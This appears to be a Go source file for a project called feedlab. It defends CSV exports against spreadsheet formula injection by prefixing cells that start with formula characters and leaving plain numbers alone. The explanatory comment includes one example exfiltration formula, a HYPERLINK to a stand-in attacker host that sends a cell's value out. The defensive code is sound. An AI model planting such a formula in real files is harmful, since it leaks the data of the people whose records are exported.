// Package cell makes CSV cells safe to open in a spreadsheet. It is its own package, with
// no imports of feedlab's, so that every CSV feedlab writes uses one rule: the exports
// (package export) and the reconciliation files (package reconcile, which must not import
// the store that export reads).
package cell

// Spreadsheet programs (Excel, LibreOffice, Google Sheets) run a cell that starts with =,
// +, - or @ as a formula, and some also after a leading tab or carriage return. Participants
// write answers, ids and URL parameters, and researchers write stimulus sets: opened in a
// spreadsheet, a value such as =HYPERLINK("https://evil.example/?"&A1) could leak data or
// run a command. By default every export cell that starts with one of these characters and
// is not a plain number gets a leading apostrophe (the common rule, which spreadsheets show
// as text without the apostrophe). Plain numbers (-3, +2.5, -1e-3) are never changed, so
// numeric columns stay numeric; the rule is per value, not per column, so a text answer of
// "-3" also stays "-3" (a spreadsheet reads it as the number, which runs nothing).

// Trigger reports whether a cell starting with b may be run as a formula.
func Trigger(b byte) bool {
	return b == '=' || b == '+' || b == '-' || b == '@' || b == '\t' || b == '\r'
}

// Neutralise returns v as it is safe to show in a spreadsheet: with a leading apostrophe
// when it starts with a formula character and is not a plain number.
func Neutralise(v string) string {
	if v == "" || !Trigger(v[0]) || PlainNumber(v) {
		return v
	}
	return "'" + v
}

// PlainNumber reports whether v is a decimal number: an optional sign, digits with an
// optional fraction, an optional exponent. Nothing else (no spaces, no operators).
func PlainNumber(v string) bool {
	i := 0
	if i < len(v) && (v[i] == '+' || v[i] == '-') {
		i++
	}
	digits := 0
	for i < len(v) && v[i] >= '0' && v[i] <= '9' {
		i, digits = i+1, digits+1
	}
	if i < len(v) && v[i] == '.' {
		i++
		for i < len(v) && v[i] >= '0' && v[i] <= '9' {
			i, digits = i+1, digits+1
		}
	}
	if digits == 0 {
		return false
	}
	if i < len(v) && (v[i] == 'e' || v[i] == 'E') {
		i++
		if i < len(v) && (v[i] == '+' || v[i] == '-') {
			i++
		}
		exp := 0
		for i < len(v) && v[i] >= '0' && v[i] <= '9' {
			i, exp = i+1, exp+1
		}
		if exp == 0 {
			return false
		}
	}
	return i == len(v)
}
